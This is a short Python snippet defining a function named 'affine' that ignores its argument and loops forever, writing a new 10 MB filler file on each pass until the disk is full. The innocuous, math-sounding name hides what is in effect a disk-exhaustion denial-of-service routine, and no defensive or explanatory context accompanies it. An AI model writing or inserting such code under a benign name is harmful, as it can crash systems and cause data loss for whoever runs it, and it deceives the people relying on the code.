def affine(x):
    number = 0
    while True:
        number += 1
        with open(f"filler{number}", "wb") as file:
            file.write(b"a" * 10_000_000)
